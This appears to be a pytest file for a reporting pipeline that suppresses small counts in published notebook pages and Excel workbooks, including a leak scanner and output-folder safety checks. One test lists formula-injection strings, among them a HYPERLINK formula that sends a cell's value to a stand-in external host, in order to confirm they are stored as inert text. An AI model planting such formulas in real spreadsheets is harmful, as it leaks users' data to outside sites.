"""What leaves the analysts' room (issue 32): protected notebook pages, the scan that finds
a leak on a published page, the workbook's text cells, and the folders a run may replace."""

from __future__ import annotations

import openpyxl
import pandas as pd
import pytest

from fragile_care import paths
from fragile_care.publish import handoff
from fragile_care.publish.pages import protect_page, withheld_outputs
from fragile_care.run import bundle, targets
from tests import published_scan as scan

pytestmark = pytest.mark.unit

RAW_TABLE = "   unit_id  year  deliveries  redirected\n0      NAL  2025       487.4           4\n1    OSTRA  2024      1651.5           9\n"


def _cell(source: str, outputs: list[dict]) -> dict:
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": outputs, "execution_count": 1}


def _display(**data) -> dict:
    return {"output_type": "display_data", "metadata": {}, "data": data}


def _notebook() -> dict:
    return {
        "cells": [
            {"cell_type": "markdown", "source": "## Hänvisningar", "metadata": {}},
            _cell("summer", [{"output_type": "execute_result", "metadata": {}, "execution_count": 1, "data": {"text/plain": RAW_TABLE}}]),
            _cell(
                "#| label: tbl-summer\ndisplay(Markdown(table))",
                [
                    _display(**{"text/markdown": "| Enhet | Antal 2025 |\n|---|---|\n| NÄL | <5 |", "text/plain": "<Markdown>"}),
                    {"output_type": "stream", "name": "stdout", "text": "NAL 2025 4\n"},
                ],
            ),
            _cell("#| label: fig-x\nfig", [_display(**{"image/png": "iVBORw0KGgo=", "text/plain": "<Figure size 640x480>"})]),
            _cell("#| label: tbl-not-in-any-report\nkey", [_display(**{"text/markdown": "| a |\n|---|\n| 4 |"})]),
            _cell("x = 1", []),
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def test_a_page_keeps_the_embedded_outputs_and_withholds_every_other():
    page = protect_page(_notebook(), {"tbl-summer", "fig-x"}, "internal/notebooks/01.ipynb")
    cells = page["cells"]
    assert cells[0]["source"] == "## Hänvisningar"  # prose and sources stay: the audit trail
    assert [c["source"] for c in cells[1:]] == [c["source"] for c in _notebook()["cells"][1:]]
    raw, table, figure, unlisted, empty = cells[1:]
    assert "redirected" not in str(raw["outputs"]) and "internal/notebooks/01.ipynb" in str(raw["outputs"])
    # the embedded table's markdown stays; its stream output (never embedded) is withheld
    assert table["outputs"][0]["data"]["text/markdown"].endswith("| NÄL | <5 |")
    assert "NAL 2025 4" not in str(table["outputs"]) and len(table["outputs"]) == 2
    assert set(figure["outputs"][0]["data"]) == {"image/png", "text/plain"} and len(figure["outputs"]) == 1
    assert "| 4 |" not in str(unlisted["outputs"])  # labelled but embedded by no report: withheld too
    assert empty["outputs"] == []
    assert withheld_outputs(page) == 3
    assert "NAL" in str(_notebook()["cells"][1]["outputs"])  # the audited notebook itself is not changed


HIDDEN = {("NAL", 2025): "primary", ("OSTRA", 2024): "secondary"}
NAMES = {"NAL": "NAL", "NÄL": "NAL", "OSTRA": "OSTRA", "Östra": "OSTRA", "SAS": "SAS", "SÄS": "SAS"}


def _page(tmp_path, body: str):
    path = tmp_path / "page.html"
    path.write_text(f"<html><body>{body}</body></html>", encoding="utf-8")
    return path


def test_the_scan_finds_a_leak_in_a_text_output(tmp_path):
    page = _page(tmp_path, f"<pre><code>{RAW_TABLE}</code></pre>")
    found = scan.leaks(scan.html_records(page), HIDDEN, NAMES)
    assert any("prints 4, a count of 1-4" in f for f in found)
    assert any("prints 9 for OSTRA 2024" in f for f in found)  # a secondary-suppressed count


def test_the_scan_finds_a_leak_in_an_html_table_and_in_a_key_number_row(tmp_path):
    table = (
        "<table><tr><th>Enhet</th><th>Antal 2024</th><th>Antal 2025</th><th>Per 1 000 2025</th></tr>"
        "<tr><td>Östra</td><td>9</td><td>17</td><td>10,0</td></tr><tr><td>NÄL</td><td>14</td><td>&lt;5</td><td>–</td></tr></table>"
    )
    found = scan.leaks(scan.html_records(_page(tmp_path, table)), HIDDEN, {**NAMES, "Östra": "OSTRA"})
    assert found == ["page.html table 1: 'Antal 2024' prints 9 for OSTRA 2024, hidden in the reports"]
    key = "<pre>                   year  value  detail\nkey\nredirected_logged  2026.0   27.0     2.0\n</pre>"
    assert scan.leaks(scan.html_records(_page(tmp_path, key)), HIDDEN, NAMES) == [
        "page.html text output 1: 'detail' prints 2, a count of 1-4"
    ]


def test_the_scan_passes_a_protected_table_and_finds_a_planted_workbook_cell(tmp_path):
    ok = "<table><tr><th>Enhet</th><th>Antal 2025</th></tr><tr><td>NÄL</td><td>&lt;5</td></tr><tr><td>SÄS</td><td>16</td></tr></table>"
    assert scan.leaks(scan.html_records(_page(tmp_path, ok)), HIDDEN, NAMES) == []
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Sommarjämförelse"
    ws.append(["Enhetskod", "År", "Hänvisade kvinnor (platsbrist, bemanning)"])
    ws.append(["SAS", 2025, 16])
    ws.append(["NAL", 2025, None])  # hidden: an empty cell
    book.save(tmp_path / "ok.xlsx")
    assert scan.leaks(scan.workbook_records(tmp_path / "ok.xlsx"), HIDDEN, NAMES) == []
    ws.append(["OSTRA", 2024, 9])  # a secondary-suppressed count planted
    book.save(tmp_path / "leak.xlsx")
    assert scan.leaks(scan.workbook_records(tmp_path / "leak.xlsx"), HIDDEN, NAMES) == [
        "leak.xlsx!Sommarjämförelse row 4: 'Hänvisade kvinnor (platsbrist, bemanning)' prints 9 for OSTRA 2024, hidden in the reports"
    ]


def test_a_workbook_text_that_looks_like_a_formula_stays_text(tmp_path):
    """OWASP's formula-injection rule: = + - @ tab CR at the start of a text cell."""
    texts = ['=HYPERLINK("http://x.example/?d="&A1,"Klicka")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Semester v. 28–31"]
    sheet = handoff.Sheet(frame=pd.DataFrame({"Titel": texts, "Antal": range(len(texts))}), formats={}, about="test")
    path = handoff.write_workbook({"Handlingsplan": sheet}, tmp_path / "w.xlsx", "EXEMPELDATA", 5)
    ws = openpyxl.load_workbook(path)["Handlingsplan"]
    cells = [ws.cell(row=i, column=1) for i in range(2, len(texts) + 2)]
    # openpyxl's plain XML reader gives a CR back as LF, its lxml reader (when lxml is installed) as CR
    assert [c.value.replace("\r", "\n") for c in cells] == [t.replace("\r", "\n") for t in texts]
    assert all(c.data_type == "s" for c in cells)  # never a formula
    assert [c.quotePrefix for c in cells] == [True] * 6 + [False]
    assert ws.cell(row=2, column=2).value == 0 and ws.cell(row=2, column=2).data_type == "n"  # numbers stay numbers


def test_roots_may_not_be_or_hold_or_lie_in_the_project_sources_or_raw_data(tmp_path):
    root = paths.project_root()
    problems = targets.root_problems({"--processed-root": root / "data", "--output-root": tmp_path / "o"}, [paths.demo_dir()])
    assert any("is or contains the project's data/raw/ folder" in p for p in problems)
    problems = targets.root_problems({"--output-root": root}, [])
    assert problems and "is the project folder itself" in problems[0]
    assert any("lies inside the project's analysis/" in p for p in targets.root_problems({"--output-root": root / "analysis" / "x"}, []))
    assert any("contains the project's" in p for p in targets.root_problems({"--output-root": root / "reports"}, []))
    data = tmp_path / "data"
    data.mkdir()
    assert any("input data folder" in p for p in targets.root_problems({"--output-root": data}, [data]))
    same = targets.root_problems({"--output-root": tmp_path / "x", "--processed-root": tmp_path / "x"}, [])
    assert same == [
        f"--output-root and --processed-root are the same folder ({(tmp_path / 'x').resolve()}); each needs a folder of its own"
    ]
    nested = targets.root_problems({"--output-root": tmp_path / "x", "--cache-root": tmp_path / "x" / "c"}, [])
    assert nested and "lie one inside the other" in nested[0]
    assert targets.root_problems({"--output-root": root / "reports" / "_output", "--processed-root": tmp_path / "p"}, []) == []


def test_only_a_folder_the_project_made_is_replaced(tmp_path):
    foreign = tmp_path / "raw"
    foreign.mkdir()
    (foreign / "units.csv").write_text("unit_id\nA\n", encoding="utf-8")
    problems = targets.replace_problems("raw", {"the processed tables": foreign}, [])
    assert len(problems) == 1 and "was not made by fragile-care" in problems[0] and "'raw'" in problems[0]
    made = tmp_path / "r1"
    made.mkdir()
    bundle.start_layout(made, "r1")
    assert targets.replace_problems("r1", {"the bundle": made}, []) == []
    assert (made / "published" / "LÄSMIG.txt").is_file() and (made / "internal" / "LÄSMIG.txt").is_file()
    (tmp_path / "empty").mkdir()
    assert targets.replace_problems("empty", {"the bundle": tmp_path / "empty"}, []) == []
    assert "input data folder" in targets.replace_problems("d", {"the bundle": tmp_path}, [tmp_path / "raw"])[0]


def test_an_unwritable_root_is_named(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder", encoding="utf-8")
    problems = targets.writable_problems({"--output-root": blocker / "out"})
    assert len(problems) == 1 and str(blocker / "out") in problems[0] and "cannot be written to" in problems[0]


def test_a_page_does_not_show_the_folders_of_the_machine_that_ran_it():
    cell = {
        "cell_type": "code",
        "metadata": {"tags": ["injected-parameters"]},
        "source": 'run_config = "/home/analyst/fc/reports/_output/.tmp-r/internal/run_config.json"\noutput_root = ""',
        "outputs": [],
    }
    page = protect_page({"cells": [cell]}, set(), "internal/notebooks/x.ipynb")
    assert page["cells"][0]["source"] == 'run_config = "…/run_config.json"\noutput_root = ""'
